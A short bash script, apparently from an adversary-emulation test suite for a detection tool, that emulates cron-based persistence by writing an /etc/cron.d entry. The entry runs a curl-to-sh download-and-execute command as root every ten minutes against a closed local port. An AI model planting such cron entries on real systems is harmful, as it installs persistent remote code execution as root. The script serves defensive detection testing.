#!/bin/bash
# vigil-emulation: attack
# technique: T1053.003 Scheduled Task/Job: Cron
# tactic: persistence, execution
# what: drops /etc/cron.d/vigil-emul-update, a system crontab entry that every ten minutes
#   pipes a script from a local URL into sh (the port is closed: if a cron daemon runs it,
#   nothing is fetched); removed at the end.
# report: a new file under /etc/cron.d written by a shell (echo), not by a package manager,
#   with a download-and-execute command.
# expect: cron|scheduled
. "${EMUL_LIB:-$(dirname "$0")/../lib}/common.sh"

emul_backup /etc/cron.d/vigil-emul-update
echo '*/10 * * * * root curl -fsS http://127.0.0.1:9/u.sh | sh >/dev/null 2>&1' >/etc/cron.d/vigil-emul-update
chmod 644 /etc/cron.d/vigil-emul-update
cat /etc/cron.d/vigil-emul-update
sleep 0.5
